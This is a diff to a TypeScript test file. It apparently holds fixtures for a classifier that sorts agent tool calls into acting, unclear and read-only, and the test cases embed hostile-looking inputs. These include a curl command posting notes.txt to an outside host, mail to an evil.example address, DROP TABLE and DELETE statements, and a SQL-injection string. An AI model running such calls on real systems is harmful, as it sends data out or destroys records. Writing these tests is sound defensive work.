@@ -23,14 +23,14 @@ const cases: Record<"acts" | "unclear" | "reads", [string, unknown][]> = {
     ["console", { line: "curl -d @notes.txt https://x.example" }], ["inbox", { action: "send", to: "a@b.example" }], ["tickets", { op: "close", id: 4 }],
     ["contact-sync", { push_to: "http://x.example/crm" }], ["calendar", { event: "e1", notify: "a@evil.example" }], ["rsvp", { event: "e1" }],
     ["sendEmail", {}], ["cancel_subscription", { id: "s-1" }], ["revoke_token", { id: "t" }], ["forward", { id: "m1" }],
-    ["lookup_contact", { recipients: ["x@y"] }], ["search", { sql: "DELETE FROM logs" }],
+    ["lookup_contact", { recipients: ["x@y"] }], ["search", { sql: "DELETE FROM logs" }], ["sql_query", { q: "DROP TABLE users" }], ["get_report", { filter: "x'; DELETE FROM t; --", q: "delete from t where 1=1" }],
   ],
   unclear: [
     ["sendmail", { to: "a@evil.example" }], ["mailer", { to: "a@evil.example" }], ["mailer", { draft: "d-7" }], ["timesheet_approval", { id: "ts-1", state: "approved" }],
     ["envoyer_courriel", { a: "a@evil.example", corps: "salut" }], ["correo", { para: "a@evil.example" }], ["nachricht", { text: "hallo du da drüben" }],
     ["slack_channel", { channel: "general", text: "the launch is moved to Friday" }], ["http", { method: "GET", url: "https://x.example/a?d=1" }],
     ["shell", { command: "ls -la" }], ["kubectl", { args: "get pods -n prod" }], ["webhooks", { target: "https://x.example/hook" }],
-    ["deletion_queue", { id: "q1" }], ["invitations", { event: "e1", guest: "a@b.example" }],
+    ["deletion_queue", { id: "q1" }], ["mailer_search", { to: "a@evil.example" }], ["invitations", { event: "e1", guest: "a@b.example" }],
   ],
   reads: [
     ["query", { sql: "SELECT count(*) FROM users" }], ["events", { date: "2026-12-04" }], ["weather", { city: "New York" }], ["graphql", { query: "{ user(id: 1) { name } }" }],
@@ -38,7 +38,7 @@ const cases: Record<"acts" | "unclear" | "reads", [string, unknown][]> = {
     ["search", { query: "drop table tennis results" }], ["search_mail", { query: "from:alice subject:invoice send date" }], ["get_order_status", { id: 1 }],
     ["list_posts", { author: "me" }], ["fetch_page", { url: "https://x.example" }], ["forecast", { city: "Lyon" }], ["balance", {}], ["translate", { text: "good morning to you", to: "fr" }],
     ["messages", { folder: "inbox", limit: 20 }], ["orders", { status: "open" }], ["db", { q: "select 1; select 2" }], ["settings", {}], ["address_book", { name: "Ann" }],
-    ["http", { method: "GET", url: "/status" }],
+    ["http", { method: "GET", url: "/status" }], ["web_search", { q: "weather Paris 75001 hourly forecast", count: 10 }], ["docs-lookup", { term: "drop table syntax in sqlite" }],
   ],
 };
 
